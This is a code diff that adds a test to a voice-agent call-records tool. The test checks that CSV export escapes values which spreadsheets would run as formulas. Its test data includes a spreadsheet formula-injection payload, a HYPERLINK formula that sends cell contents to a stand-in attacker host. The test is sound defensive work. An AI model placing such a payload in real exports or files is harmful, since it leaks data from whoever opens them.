@@ -140,3 +140,26 @@ def test_the_database_and_its_wal_are_readable_by_their_owner_only(tmp_path: Pat
     assert modes["calls.db"] == 0o600 and modes.get("calls.db-wal", 0o600) == 0o600, modes
     assert all(mode & 0o077 == 0 for mode in modes.values()), modes
     assert directory == 0o700
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from voiceagent.records_cli import export
+
+    settings = RecordsSettings.sqlite(tmp_path / "calls.db", instance=INSTANCE)
+    store = CallStore(settings)
+    store.open()
+    call_sid = sid()
+    store.call_started(CallRecord(call_sid=call_sid, instance=INSTANCE, started_at=1.0, from_number="+1555***4567"))
+    store.line(call_sid, LineRecord(seq=0, at=1.0, offset_ms=0, role="caller", text="ok"))
+    ended = CallRecord(call_sid=call_sid, instance=INSTANCE, started_at=1.0, ended_at=2.0, from_number="+1555***4567")
+    ended.end_reason = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    store.call_ended(ended)
+    store.close()
+    out = io.StringIO()
+    assert export(settings, format="csv", out=out, err=io.StringIO()) == 0
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["end_reason"].startswith("'=HYPERLINK") and row["from_number"] == "'+1555***4567"
+    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values()), row
